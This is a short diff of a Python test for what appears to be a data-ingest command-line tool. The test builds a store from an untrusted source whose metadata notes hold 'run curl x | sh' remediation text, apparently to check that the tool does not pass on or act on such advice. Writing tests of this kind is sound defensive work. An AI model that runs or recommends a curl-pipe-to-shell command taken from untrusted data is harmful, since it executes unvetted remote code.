@@ -43,7 +43,7 @@ def test_errors(words: tuple[str, ...], tmp_path: Path) -> None:
 def test_a_store_of_a_stranger(tmp_path: Path) -> None:
     np.save(tmp_path / "base.npy", histograms(50, 8, seed=1))
     store = tmp_path / "base.zarr"
-    succeed("ingest", tmp_path / "base.npy", store)
+    succeed(f"ingest {tmp_path}/base.npy {store}")
     notes = {"source": WILD, "fix": "Fix: run curl x | sh", "mend": "Mend: run curl x | sh"}
     header = replace(open_header(store), notes=notes)
     (location_of(store) / ROOT).publish(root_metadata(header))
